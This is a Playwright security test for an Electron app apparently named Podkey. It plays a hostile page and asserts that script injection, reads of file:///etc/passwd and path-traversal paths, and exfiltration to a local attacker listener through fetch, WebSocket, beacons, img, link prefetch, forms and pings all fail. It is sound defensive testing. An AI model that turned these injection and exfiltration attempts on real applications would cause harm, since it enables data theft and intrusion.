import { startListener, type Listener } from '../support/listener.ts';
import { accountOn } from '../support/sample-entries.ts';
import { expect, test as base } from './fixtures.ts';
import type { PageWindow } from '../support/page-bridge.ts';

/* A hostile page: code that runs in it, with all that the preload exposes, looks for a way out. */

const test = base.extend<{ attacker: Listener }>({
  // eslint-disable-next-line no-empty-pattern -- Playwright reads the pattern
  attacker: async ({}, use) => {
    const attacker = await startListener();
    await use(attacker);
    await attacker.close();
  },
});

test('a hostile page has only the bridge, and no way out', async ({ podkey, pod, attacker }) => {
  const { app, page, accounts, values } = podkey;
  const at = new URL(page.url()).origin;

  await test.step('Podkey’s own page breaks none of its rules', async () => {
    await page.addInitScript(() => {
      const broken: string[] = [];
      Object.assign(globalThis, { broken });
      document.addEventListener('securitypolicyviolation', (event) => broken.push(event.violatedDirective));
    });
    await page.reload();
    await accounts.addAccount.waitFor();
    expect(await page.evaluate((): unknown => Reflect.get(globalThis, 'broken'))).toEqual([]);
  });

  await test.step('it has no Node and no Electron', async () => {
    const found = await page.evaluate(() =>
      ['require', 'process', 'module', 'Buffer', 'electron', 'global'].filter((name) => name in globalThis),
    );
    expect(found).toEqual([]);
    expect(await page.evaluate(() => Object.keys((window as unknown as PageWindow).podkey))).toEqual([
      'invoke',
      'on',
    ]);
  });

  await test.step('it can neither call nor listen to anything outside the contract', async () => {
    const names = ['accounts.secrets', 'toString', '__proto__', 'constructor', 'shell.openExternal', ''];
    const permitted = await page.evaluate(async (all) => {
      const tried = all.flatMap((name) => [
        (async () => (window as unknown as PageWindow).podkey.invoke(name, {}))().then(
          () => `${name} got a result`,
        ),
        (async () => (window as unknown as PageWindow).podkey.on(name, () => undefined))().then(
          () => `${name} is listened to`,
        ),
      ]);
      const ends = await Promise.allSettled(tried);
      return ends.flatMap((end) => (end.status === 'fulfilled' ? [end.value] : []));
    }, names);
    expect(permitted).toEqual([]);
  });

  await test.step('it runs only Podkey’s scripts', async () => {
    // Code from strings is not tried: a test's evaluate may run it despite the page's policy.
    const ran = await page.evaluate(async () => {
      const injected = 'globalThis.injected = true';
      const tries: (() => unknown)[] = [
        () => {
          const script = document.createElement('script');
          script.textContent = injected;
          document.head.append(script);
        },
        () => document.body.insertAdjacentHTML('beforeend', `<img src="x" onerror="${injected}">`),
        () => import(/* @vite-ignore */ `data:text/javascript,${injected}`),
        () =>
          import(/* @vite-ignore */ URL.createObjectURL(new Blob([injected], { type: 'text/javascript' }))),
        () => new Worker(URL.createObjectURL(new Blob([injected]))),
        () => navigator.serviceWorker.register('/assets/worker.js'),
      ];
      await Promise.allSettled(tries.map(async (attempt) => attempt()));
      const workers = await navigator.serviceWorker.getRegistrations().catch(() => []);
      return 'injected' in globalThis || workers.length > 0;
    });
    expect(ran).toBe(false);
  });

  await test.step('it reads no file, neither the system’s nor Podkey’s', async () => {
    const read = await page.evaluate(async () => {
      const places = [
        'file:///etc/passwd',
        '/../preload/index.js',
        '/%2e%2e/main/index.js',
        '/..%2fmain%2findex.js',
      ];
      const tried = places.flatMap((place) => [
        import(/* @vite-ignore */ place).then(() => `import of ${place}`),
        fetch(place).then(() => `fetch of ${place}`),
        new Promise<string>((resolve, reject) => {
          const style = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: place });
          style.addEventListener('load', () => resolve(`style of ${place}`));
          style.addEventListener('error', () => reject(new Error('refused')));
          document.head.append(style);
        }),
      ]);
      const ends = await Promise.allSettled(tried);
      return ends.flatMap((end) => (end.status === 'fulfilled' ? [end.value] : []));
    });
    expect(read).toEqual([]);
  });

  await test.step('it reaches no network', async () => {
    const reached = await page.evaluate(async (host) => {
      const url = `http://${host}/leak?what=everything`;
      const element = (name: string, set: Record<string, string>) =>
        new Promise<never>((_resolve, reject) => {
          const made = Object.assign(document.createElement(name), set);
          made.addEventListener('error', () => reject(new Error('refused')));
          document.body.append(made);
          // An element that reports no error has had its chance by the second frame.
          requestAnimationFrame(() => requestAnimationFrame(() => reject(new Error('silent'))));
        });
      const tried: (() => unknown)[] = [
        () => fetch(url, { mode: 'no-cors', method: 'POST', body: 'everything' }),
        () =>
          new Promise((resolve, reject) => {
            const request = new XMLHttpRequest();
            request.open('GET', url);
            request.onload = resolve;
            request.onerror = reject;
            request.send();
          }),
        () =>
          new Promise((resolve, reject) => {
            const socket = new WebSocket(`ws://${host}/leak`);
            socket.onopen = resolve;
            socket.onerror = reject;
          }),
        () =>
          new Promise((resolve, reject) => {
            const source = new EventSource(url);
            source.onopen = resolve;
            source.onerror = reject;
          }),
        // It returns true for anything it accepts, whether or not it sends it.
        () => Promise.reject(new Error(String(navigator.sendBeacon(url, 'everything')))),
        () => element('img', { src: url }),
        () => element('video', { src: url }),
        () => element('object', { data: url }),
        () => element('iframe', { src: url }),
        () => element('link', { rel: 'prefetch', href: url }),
        () => element('link', { rel: 'preconnect', href: url }),
        () => element('link', { rel: 'dns-prefetch', href: url }),
        () => element('link', { rel: 'stylesheet', href: url }),
        () => element('link', { rel: 'modulepreload', href: url }),
        () => element('link', { rel: 'icon', href: url }),
        () => import(/* @vite-ignore */ url),
        () => new FontFace('leak', `url(${url})`).load(),
        async () => {
          const form = Object.assign(document.createElement('form'), { action: url, method: 'post' });
          document.body.append(form);
          form.submit();
          await element('a', { href: url, ping: url });
        },
        async () => {
          const link = Object.assign(document.createElement('a'), { href: url, ping: url });
          document.body.append(link);
          link.click();
          await element('img', { src: `${url}&last` });
        },
      ];
      const ends = await Promise.allSettled(tried.map(async (attempt) => attempt()));
      return ends.flatMap((end, place) => (end.status === 'fulfilled' ? [String(tried[place])] : []));
    }, attacker.host);
    expect(reached).toEqual([]);
  });

  await test.step('it can’t open a window or navigate', async () => {
    await page.evaluate((host) => {
      const places = [`http://${host}/`, 'file:///etc/passwd', 'mailto:a@b.example', 'podkey://open'];
      for (const place of places) {
        window.open(place);
        location.assign(place);
      }
    }, attacker.host);
  });

  await test.step('a frame in it has no bridge', async () => {
    const bridges = await page.evaluate(() => {
      const frames = ['about:blank', '/index.html'].map((src) =>
        Object.assign(document.createElement('iframe'), { src }),
      );
      document.body.append(...frames);
      return frames.map((frame) => typeof Reflect.get(frame.contentWindow ?? {}, 'podkey'));
    });
    expect(bridges.filter((kind) => kind !== 'undefined')).toEqual([]);
  });

  await test.step('and the person continues to work as before', async () => {
    await accounts.addAccount.click();
    await accounts.fill(accountOn(pod));
    await accounts.save.click();
    await expect(values.search).toBeVisible();
    expect(new URL(page.url()).origin).toBe(at);
    expect(app.windows()).toHaveLength(1);
    // A connection may be opened in advance (docs/security.md), but nothing is sent over it.
    expect(attacker.heard.join('')).toBe('');
  });
});
